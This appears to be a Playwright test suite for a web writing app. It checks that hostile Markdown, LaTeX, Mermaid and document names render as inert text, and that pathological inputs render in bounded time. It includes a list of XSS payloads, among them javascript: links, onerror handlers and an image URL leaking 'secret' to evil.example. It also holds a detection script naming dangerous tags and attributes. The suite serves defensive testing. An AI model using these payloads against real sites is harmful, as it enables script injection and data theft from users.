"""Text that attacks whoever looks at it, whole and half-streamed: it does nothing at all.

What a page's console says, what leaves the machine and every dialog is watched by the fixture.
"""

from playwright.sync_api import Page

from tests.support.room import (
    drafted,
    enter,
    expect_saved,
    put_cursor,
    save,
    until,
    until_shown,
)
from tests.support.server import Server

HOSTILE = """<img src=x onerror="alert(1)"> <script>alert(2)</script> <svg onload=alert(3)>

<iframe src="https://evil.example/a"></iframe><style>body{display:none}</style>

[run](javascript:alert(4)) [run](&#106;avascript:alert(5)) [data](data:text/html,<script>alert(6)</script>)
[title](https://good.example "\\" onmouseover=alert(7) x=\\"") <https://good.example/"onclick="alert(8)>

![q](http://evil.example/p.png?q=secret) ![d](data:image/svg+xml,<svg/onload=alert(9)>) ![s](//evil.example/x)

$\\href{javascript:alert(10)}{x}$ $\\htmlData{onclick=alert(11)}{x}$ $\\includegraphics{http://evil.example/i.png}$
$\\unicode{<img src=x onerror=alert(12)>}$ $$\\def\\x{\\x\\x}\\x$$ $\\text{</annotation><img src=x onerror=alert(13)>}$

```mermaid
graph TD; A["<img src=x onerror=alert(14)>"] --> B[click A "javascript:alert(15)"]
```

```<img src=x onerror=alert(16)>
code
```

| <b onclick=alert(17)>x | [y](vbscript:alert(18)) |
|---|---|
| <form action=https://evil.example><input name=q></form> | <math><mtext><img src=x onerror=alert(19)> |

[ref]: javascript:alert(20) "x"
[ref] [location][] [hash](#__proto__) <a name="body" id="app">x</a>
"""  # noqa: E501 - a line is an attack

LOOK = """() => {
  const page = document.querySelector('.reader')
  const bad = 'script,iframe,object,embed,style,link,meta,base,form,input,button,svg,video,audio'
  const found = [...page.querySelectorAll(bad)].map(one => one.outerHTML)
  for (const one of page.querySelectorAll('*')) {
    for (const { name, value } of one.attributes) {
      if (/^on|^style$|srcset|^id$|^name$/i.test(name)) found.push(one.outerHTML)
      if (/^(href|src|action|xlink:href)$/i.test(name)
          && !/^(https?:|mailto:|data:image\\/(png|jpeg|gif|webp);)/.test(value)) {
        found.push(one.outerHTML)
      }
    }
    if (one.tagName === 'IMG' && !one.src.startsWith('data:')) found.push(one.outerHTML)
    if (one.tagName === 'A' && one.href
        && (one.target !== '_blank' || !one.rel.includes('noopener'))) found.push(one.outerHTML)
  }
  return found
}"""


def test_hostile_text_does_nothing_in_editor_and_page(page: Page, studio: Server):
    document_id = drafted(studio.http, [HOSTILE])
    enter(page, document_id)
    page.keyboard.press("Control+Alt+3")
    reader = page.locator(".reader")
    reader.get_by_text("alert(20)").first.wait_for()
    until(page, lambda: page.locator(".reader math").count() > 0)
    assert page.evaluate(LOOK) == []
    assert "secret" in reader.inner_text()
    page.keyboard.press("Control+Alt+2")
    page.locator(".workspace.inside").wait_for()
    page.keyboard.press("Control+Alt+f")
    page.locator("aside.side details").first.wait_for()


def test_hostile_text_does_nothing_while_it_grows(page: Page, studio: Server):
    """Cut in the middle of words and tags, as a stream may be."""
    document_id = drafted(studio.http, ["Begin.", "Step 0."])
    enter(page, document_id)
    page.keyboard.press("Control+Alt+4")
    for end in range(11, len(HOSTILE), 11 * 7):
        save(studio.http, document_id, 0, HOSTILE[:end])
        until_shown(page, HOSTILE[max(0, end - 20) : end])
        save(studio.http, document_id, 1, f"Step {end}.")
        # The page shows sections in the order in which they were saved.
        page.locator(".reader").get_by_text(f"Step {end}.").wait_for()
        assert page.evaluate(LOOK) == [], HOSTILE[:end]


NAME = '"><img src=x onerror=alert(1)><a href="javascript:alert(2)">x</a>'
LISTED = "img[src='x'], [onerror], a[href^='javascript']"


def test_hostile_names_are_read_as_letters_in_every_view(page: Page, studio: Server):
    """Titles, headings, chapters, tags, snapshots and templates."""
    http = studio.http
    brief = {"task": NAME, "title": NAME, "role": NAME, "structure": [NAME]}
    section = {"heading": NAME, "words": 40, "intent": NAME, "chapter": NAME}
    plan = {"brief": brief, "title": NAME, "sections": [section]}
    body = {"brief": brief, "plan": plan, "seed": 1, "start": False}
    made = http.post("/api/documents", json=body).raise_for_status().json()["document"]["id"]
    save(http, made, 0, "One.")
    save(http, made, 0, "Two.")
    http.patch(f"/api/documents/{made}", json={"tags": [NAME[:20]]}).raise_for_status()
    http.post(f"/api/documents/{made}/snapshots", json={"name": NAME}).raise_for_status()
    template = http.post("/api/templates", json={"name": NAME, "brief": brief}).raise_for_status()
    stages = ("brief", "outline", "write", "versions", "export")
    try:
        for view in ("/#/", *(f"/#/d/{made}/{stage}" for stage in stages)):
            page.goto(view)
            page.reload()
            page.get_by_text("onerror=alert(1)").first.wait_for(state="attached")
            assert page.locator(LISTED).count() == 0, view
    finally:
        http.delete(f"/api/templates/{template.json()['id']}")


HARD = [
    "[" * 50_000, "*a_b" * 20_000, ">" * 20_000 + "x", "- " * 10_000 + "x", "`" * 60_000,
    "$" * 60_000, "|a" * 20_000 + "\n" + "|-" * 20_000, "\n# x" * 20_000,
]  # fmt: skip


def test_text_that_is_hard_to_read_is_shown_in_bounded_time(page: Page, studio: Server):
    document_id = drafted(studio.http, HARD)
    enter(page, document_id)
    page.keyboard.press("Control+Alt+4")
    page.wait_for_selector(".reader [data-section='7'] .block", state="attached")
    page.keyboard.press("Control+Alt+1")
    put_cursor(page, "## Two")
    page.keyboard.press("ArrowUp")
    page.keyboard.press("ArrowUp")
    page.keyboard.type("x")
    expect_saved(page)
